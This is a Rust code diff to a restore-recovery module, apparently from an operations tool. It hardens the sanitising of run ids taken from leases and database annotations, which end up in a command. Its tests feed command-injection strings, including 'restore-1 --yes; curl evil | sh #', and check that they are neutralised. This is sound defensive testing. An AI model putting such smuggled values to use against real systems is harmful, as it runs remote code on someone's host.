@@ -3,12 +3,13 @@
 //! Until its last step a restore has in place what nothing may take for the install: an empty database, or one that has
 //! not been proved. Whoever starts the application on it has data that the run then takes away.
 
-use super::table::{puts_back, resumable, resumes};
+use super::table::{leaves_half_done, resumable};
 use crate::cluster::{ClusterError, Database, lease_name};
 use crate::error::{OpenRun, Result, WayOut};
 use crate::journal::{Remains, Run, RunStore, ended};
 use crate::names::NamespaceName;
 use crate::ops::Ctx;
+use crate::ops::lease::command_of;
 
 /// No id of a run is longer.
 const LONGEST_ID: usize = 64;
@@ -51,7 +52,7 @@ pub(super) async fn leaves_unproved(ctx: &Ctx, remains: &Remains) -> Result<Vec<
     let cluster = ctx.cluster().await?;
     let held = cluster.lease_holder(&lease_name(&remains.release)).await?;
     let is_held = matches!(held, Some(ClusterError::Held { holder, .. }) if holder == remains.run);
-    if !is_held || puts_back(&remains.verb).is_some() {
+    if !is_held || !leaves_half_done(&remains.verb) {
         return Ok(Vec::new());
     }
     Ok(cluster.databases().await?.into_iter().map(|database| database.name).collect())
@@ -60,7 +61,8 @@ pub(super) async fn leaves_unproved(ctx: &Ctx, remains: &Remains) -> Result<Vec<
 /// Whoever may write a lease or an annotation writes this text, and it becomes a word of a command: no more of it than an
 /// id can have.
 fn id_of(text: &str) -> String {
-    text.chars().filter(|c| c.is_ascii_alphanumeric() || *c == '-').take(LONGEST_ID).collect()
+    let word: String = text.chars().filter(|c| c.is_ascii_alphanumeric() || *c == '-').take(LONGEST_ID).collect();
+    if word.starts_with(|first: char| first.is_ascii_alphanumeric()) { word } else { "without a name".to_owned() }
 }
 
 /// Refuses the install of `ctx` where it is half done.
@@ -83,7 +85,7 @@ fn open_here(runs: &dyn RunStore, namespace: &NamespaceName) -> Result<Vec<(Stri
             Ok(_) | Err(_) => continue,
         };
         let remains = Remains::of(&stored).filter(|remains| remains.ended.is_none() && remains.namespace == *namespace);
-        let Some(remains) = remains.filter(|remains| puts_back(&remains.verb).is_none()) else { continue };
+        let Some(remains) = remains.filter(|remains| leaves_half_done(&remains.verb)) else { continue };
         let run = Run::parse(&stored).ok();
         let step = run.as_ref().and_then(|run| run.replay.stopped_in().map(str::to_owned));
         let can_resume = run.is_some_and(|run| resumable(&run.replay).is_ok());
@@ -98,7 +100,9 @@ fn open_here(runs: &dyn RunStore, namespace: &NamespaceName) -> Result<Vec<(Stri
 /// still at work one look does not tell. A run that comes to its end gives its lease up before.
 fn open_by_lease(runs: &dyn RunStore, who: &str, held: &ClusterError) -> Option<OpenRun> {
     let ClusterError::Held { holder, host, .. } = held else { return None };
-    resumes(holder.split_once('-')?.0)?;
+    if command_of(holder).is_some() || !leaves_half_done(holder.split_once('-')?.0) {
+        return None;
+    }
     let run = id_of(holder);
     let stored = runs.read(holder).ok().filter(|_| run == *holder);
     let way_out = match stored {
@@ -157,6 +161,10 @@ mod tests {
     fn a_database_that_an_aborted_restore_has_left_unproved_says_so_to_every_host() {
         let mut database = Database { name: "opschain-db".into(), ..Database::default() };
         assert_eq!(left_unproved(&database), None);
+        for odd in ["", "--close-only"] {
+            database.annotations.insert(crate::cluster::UNPROVED_BY.into(), odd.into());
+            assert_eq!(left_unproved(&database).unwrap().run, "without a name");
+        }
         database.annotations.insert(crate::cluster::UNPROVED_BY.into(), "restore-1; evil".into());
         let open = left_unproved(&database).unwrap();
         assert_eq!((open.run.as_str(), open.way_out), ("restore-1evil", WayOut::Unproved("opschain-db".into())));
@@ -178,12 +186,13 @@ mod tests {
         for holder in ["create-1", "stop-1", "start-1", "deploy-1"] {
             assert_eq!(elsewhere(holder), None, "{holder}");
         }
+        assert!(elsewhere("novel-1").is_some(), "what a verb does that is not known here, nobody can say");
         assert_eq!(elsewhere("restore-here").unwrap().way_out, WayOut::OnlyClosed, "it gave nothing up");
         assert_eq!(elsewhere("restore-1").unwrap().way_out, WayOut::Elsewhere("op@there".into()));
         run(&runs, "restore-damaged", "restore", started());
         runs.set("restore-damaged", "{\"rec\n");
         assert!(elsewhere("restore-damaged").is_some(), "nothing here tells what it was");
         let evil = elsewhere("restore-1 --yes; curl evil | sh #").unwrap();
-        assert_eq!(evil.next("opschain"), "on the host of op@there: dr run resume restore-1--yescurlevilsh");
+        assert_eq!(evil.run, "restore-1--yescurlevilsh");
     }
 }
